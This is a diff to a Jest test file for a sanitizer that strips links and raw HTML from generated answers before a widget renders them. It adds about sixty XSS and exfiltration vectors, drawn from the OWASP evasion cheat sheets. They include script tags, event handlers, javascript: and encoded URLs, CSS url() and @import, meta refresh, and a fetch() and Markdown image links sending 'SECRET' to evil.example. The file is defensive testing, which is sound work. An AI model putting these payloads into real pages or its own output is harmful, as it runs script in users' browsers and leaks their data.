@@ -1,4 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
+import { JSDOM } from 'jsdom';
+import MarkdownIt from 'markdown-it';
 import { OutputSanitizer, unfinishedConstructAt } from './output-sanitizer';
 
 const sanitizer = new OutputSanitizer(['acme.example', 'widget.acme-cdn.example']);
@@ -39,6 +41,7 @@ describe('OutputSanitizer', () => {
     ['an autolink', 'Go to <http://evil.example/?q=SECRET> now', 'Go to evil.example now'],
     ['a bare URL', 'Visit https://evil.example/?q=SECRET.', 'Visit evil.example.'],
     ['a bare www URL', 'Visit www.evil.example/?q=SECRET now', 'Visit evil.example now'],
+    ['a bare scheme-relative URL', 'Visit //evil.example/?q=SECRET now', 'Visit evil.example now'],
   ])('neutralises %s', (_, input, expected) => {
     const output = sanitizer.sanitize(input);
     expect(output).toBe(expected);
@@ -67,6 +70,155 @@ describe('OutputSanitizer', () => {
 
   it('allows nothing when the tenant has no hosts', () => {
     expect(new OutputSanitizer([]).sanitize('[a](https://acme.example/)')).toBe('a');
+  });
+});
+
+/**
+ * What a widget would show: the answer rendered by a Markdown renderer that passes raw HTML
+ * through and links bare URLs (the most permissive kind), then parsed by a browser's parser.
+ * Lists what in it could run code or reach a host outside the tenant's.
+ */
+const renderer = new MarkdownIt({ html: true, linkify: true });
+const RENDERED_TAGS = new Set(
+  'a img b strong i em u s del ins mark small sub sup code pre kbd samp var abbr q br hr p span div blockquote ul ol li dl dt dd h1 h2 h3 h4 h5 h6 details summary table thead tbody tr th td'.split(
+    ' ',
+  ),
+);
+function dangersWhenRendered(markdown: string): string[] {
+  const { document } = new JSDOM(`<body>${renderer.render(markdown)}</body>`).window;
+  const dangers: string[] = [];
+  for (const element of document.body.querySelectorAll('*')) {
+    if (!RENDERED_TAGS.has(element.localName)) dangers.push(`<${element.localName}>`);
+    for (const { name, value } of element.attributes) {
+      if (/^on|^style$|^srcset$|^formaction$|^action$|^background$|^poster$/i.test(name)) {
+        dangers.push(`${element.localName}[${name}]`);
+      } else if (['href', 'src'].includes(name) && !sanitizer.isAllowedUrl(value)) {
+        dangers.push(`${element.localName}[${name}=${value}]`);
+      }
+    }
+  }
+  return dangers;
+}
+
+describe('OutputSanitizer on raw HTML (DOMPurify allow-list)', () => {
+  it.each([
+    ['a <style> @import', `<style>@import '//evil.example/x.css';</style>After`, 'After'],
+    [
+      'a url(//…) in a style attribute',
+      '<div style="background:url(//evil.example/p?q=SECRET)">Hi</div>',
+      '<div>Hi</div>',
+    ],
+    [
+      'a meta refresh',
+      '<meta http-equiv="refresh" content="0;url=//evil.example/?q=SECRET">Hi',
+      'Hi',
+    ],
+    ['an <svg onload>', '<svg onload=alert(1)>', ''],
+    ['an event handler on an allowed tag', '<b onmouseover="alert(1)">x</b>', '<b>x</b>'],
+    ['a scheme-relative link', '<a href="//evil.example/?q=SECRET">x</a>', 'x</a>'],
+    ['a scheme-relative image', '<img src="//evil.example/?q=SECRET" alt="chart">', 'chart'],
+    ['a <script> with its content', 'a<script>fetch("//evil.example/?q=SECRET")</script>b', 'ab'],
+    [
+      'an allowed image with a handler',
+      '<img src="https://acme.example/a.png" onerror="alert(1)" alt="a">',
+      '<img src="https://acme.example/a.png" alt="a">',
+    ],
+    [
+      'an allowed link with a style',
+      '<a href="https://acme.example/help" style="position:fixed" title="Help">help</a>',
+      '<a href="https://acme.example/help" title="Help">help</a>',
+    ],
+    ['an alt text that decodes to a tag', '<img src=x alt="&lt;img src=x&gt;">', '&lt;img src=x>'],
+  ])('closes %s', (_, input, expected) => {
+    const output = sanitizer.sanitize(input);
+    expect(output).toBe(expected);
+    expect(output).not.toMatch(LEAK);
+    expect(dangersWhenRendered(output)).toEqual([]);
+  });
+
+  // Known vectors, after the OWASP XSS filter evasion cheat sheet and the HTML5 Security
+  // Cheatsheet, each aimed at running script or reaching evil.example.
+  const VECTORS = [
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="x" onerror="alert(1)">',
+    '<IMG SRC="javascript:alert(1);">',
+    '<IMG SRC=JaVaScRiPt:alert(1)>',
+    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
+    '<IMG SRC="jav&#x09;ascript:alert(1);">',
+    '<img src="https://acme.example/a.png" onload="alert(1)">',
+    '<svg/onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg><image href="//evil.example/i.png"/></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<body onload=alert(1)>',
+    '<body background="//evil.example/b.png">',
+    '<iframe src="//evil.example/"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="//evil.example/x.swf"></object>',
+    '<embed src="//evil.example/x.swf">',
+    '<link rel="stylesheet" href="//evil.example/x.css">',
+    '<base href="//evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<meta http-equiv="refresh" content="0; URL=//evil.example/">',
+    '<style>body{background:url("//evil.example/b.png")}</style>',
+    '<style>@import "//evil.example/x.css";</style>',
+    '<div style="background-image:url(//evil.example/b.png)">x</div>',
+    '<div style="width:expression(alert(1))">x</div>',
+    '<p style="behavior:url(//evil.example/x.htc)">x</p>',
+    '<table background="//evil.example/t.png"><tr><td>x</td></tr></table>',
+    '<input type="image" src="//evil.example/i.png">',
+    '<form action="//evil.example/"><button>go</button></form>',
+    '<button formaction="//evil.example/">go</button>',
+    '<video poster="//evil.example/p.png"></video>',
+    '<audio src="//evil.example/a.mp3" autoplay></audio>',
+    '<picture><source srcset="//evil.example/s.png"><img alt="x"></picture>',
+    '<img srcset="//evil.example/s.png 2x" alt="x">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JAVASCRIPT:alert(1)">x</a>',
+    '<a href="&#x6A;avascript:alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="https://acme.example@evil.example/">x</a>',
+    '<a href="https://evil.example/" ping="//evil.example/p">x</a>',
+    '<a href="https:&#x2F;&#x2F;evil.example/">x</a>',
+    '<details open ontoggle=alert(1)>x</details>',
+    '<marquee onstart=alert(1)>x</marquee>',
+    '<isindex action=javascript:alert(1) type=image>',
+    '<x onclick=alert(1)>x</x>',
+    '<template><img src=x onerror=alert(1)></template>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<!--><img src=x onerror=alert(1)>-->',
+    '<![CDATA[<img src=x onerror=alert(1)>]]>',
+    '<?xml-stylesheet href="//evil.example/x.xsl"?>',
+    '<a href="https://acme.example/" onclick="alert(1)">ok</a>',
+    '<img src="https://acme.example/ok.png" style="background:url(//evil.example/x)">',
+    '[x](//evil.example/?q=SECRET)',
+    '[x](javascript:alert(1))',
+    '![x](//evil.example/?q=SECRET)',
+    '[d]: //evil.example/?q=SECRET\n[see][d]',
+    '<//evil.example/?q=SECRET>',
+    '<http://evil.example/?q=SECRET>',
+  ];
+
+  it.each(VECTORS)('leaves nothing that runs or reaches out of %s', (vector) => {
+    const output = sanitizer.sanitize(`Before ${vector} after`);
+    expect(dangersWhenRendered(output)).toEqual([]);
+    expect(output).not.toMatch(/evil\.example\/|SECRET|javascript:|<script|<style|<svg|<meta/i);
+  });
+
+  it.each([1, 3, 7])('closes the same holes when streamed (deltas of %i)', (size) => {
+    const answer = VECTORS.join(' text ');
+    const streaming = sanitizer.streaming();
+    let emitted = '';
+    for (let at = 0; at < answer.length; at += size) {
+      emitted += streaming.push(answer.slice(at, at + size));
+    }
+    emitted += streaming.end();
+    expect(dangersWhenRendered(emitted)).toEqual([]);
+    expect(emitted).not.toMatch(/evil\.example\/|SECRET|<script|<svg|<meta/i);
+    expect(emitted).toContain('<a href="https://acme.example/">ok</a>');
   });
 });
 
